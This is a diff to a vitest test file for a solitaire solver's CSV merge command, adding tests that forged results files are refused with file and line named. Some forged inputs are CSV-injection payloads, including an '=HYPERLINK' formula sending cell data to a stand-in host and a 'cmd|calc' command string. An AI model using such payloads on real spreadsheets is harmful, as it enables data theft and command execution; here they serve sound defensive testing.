@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -86,5 +86,57 @@ describe('solitaire solve --shard and merge', () => {
     expect(late.out).toMatch(/^Athena: 2 deals, 1 won, 1 lost, 0 unknown \(cap 1 s, merged from 1 file\)\n/);
     expect(late.out).not.toContain('Results written');
     expect(late.err).toBe('solitaire solve: cannot write sub/all.csv.part: it is a folder\n');
+  });
+
+  it('refuses a file with a field it would not write, naming file and line, with or without --summary', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
+    const good = header(athena);
+    writeFileSync(join(dir, 'good.csv'), `${good}1,won,5,100\n`);
+    const forged = (name: string, from: string, to: string, rows = '2,lost,5,100\n') => {
+      expect(good).toContain(from);
+      writeFileSync(join(dir, name), `${good.replace(from, to)}${rows}`);
+      return name;
+    };
+    const cases: [string, string][] = [
+      [forged('formula.csv', 'redeals:unlimited', 'redeals:unlimited,=HYPERLINK("http://x/"&A1)'), 'options=draw:3,redeals:unlimited,=HYPERLINK("http://x/"&A1)'],
+      [forged('at.csv', 'draw:3', '@SUM(A1:A9)'), 'options=@SUM(A1:A9),redeals:unlimited'],
+      [forged('value.csv', 'draw:3', 'draw:+3'), 'options=draw:+3,redeals:unlimited'],
+      [forged('unknown-option.csv', 'draw:3', 'draw:3,dealer:me'), 'options=draw:3,dealer:me,redeals:unlimited'],
+      [forged('missing-option.csv', 'draw:3,', ''), 'options=redeals:unlimited'],
+      [forged('order.csv', 'draw:3,redeals:unlimited', 'redeals:unlimited,draw:3'), 'options=redeals:unlimited,draw:3'],
+      [forged('deals.csv', 'deals=numbers', 'deals=numbers,-2+3'), 'deals=numbers,-2+3'],
+      [forged('cap.csv', 'cap=1 ', 'cap=1e0 '), 'cap=1e0'],
+      [forged('nodes.csv', 'nodes=none', 'nodes=-5'), 'nodes=-5'],
+      [forged('solver.csv', /solver=\S+/.exec(good)![0], 'solver==cmd|calc'), 'solver==cmd|calc'],
+      [forged('game.csv', 'game=athena', 'game=athena,=1'), 'game=athena,=1'],
+      [forged('extra.csv', 'nodes=none', 'nodes=none note=+1'), 'note=+1'],
+      [forged('twice.csv', 'cap=1 ', 'cap=1 cap=2 '), `${good.slice(0, 59)}…`],
+      [forged('row.csv', 'cap=1', 'cap=1', '2,lost,5,9999999999999999\n'), '2,lost,5,9999999999999999'],
+    ];
+    for (const [file, reason] of cases) {
+      for (const flags of [[], ['--summary', 'athena.json']]) {
+        const r = await solve(dir, 'merge', 'good.csv', file, '--csv', 'all.csv', ...flags);
+        const line = file === 'row.csv' ? 3 : 1;
+        expect(r, file).toEqual({ code: 1, out: '', err: `solitaire solve: ${file} is not a results file of solitaire solve (line ${line}: ${reason})\n` });
+      }
+    }
+    expect(existsSync(join(dir, 'all.csv'))).toBe(false);
+    expect(existsSync(join(dir, 'athena.json'))).toBe(false);
+  });
+
+  it('refuses files of two solvers, and still merges files written before the solver was recorded', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
+    const good = header(athena), version = /solver=(\S+)/.exec(good)![1]!;
+    writeFileSync(join(dir, 'new.csv'), `${good}1,won,5,100\n`);
+    writeFileSync(join(dir, 'other.csv'), `${good.replace(`solver=${version}`, 'solver=0.0.1')}2,won,5,100\n`);
+    const clash = await solve(dir, 'merge', 'new.csv', 'other.csv');
+    expect(clash.err).toBe(`solitaire solve: other.csv records solver=0.0.1, but ${version} is asked (line 1): the results do not belong together\n`);
+    // As main wrote them: no solver field.
+    const old = good.replace(` solver=${version}`, '');
+    writeFileSync(join(dir, 'old1.csv'), `${old}1,won,5,100\n`);
+    writeFileSync(join(dir, 'old2.csv'), `${old}2,lost,5,100\n`);
+    const merged = await solve(dir, 'merge', 'old1.csv', 'old2.csv', '--csv', 'all.csv');
+    expect(merged).toMatchObject({ code: 0, err: '' });
+    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(`${old}1,won,5,100\n2,lost,5,100\n`);
   });
 });
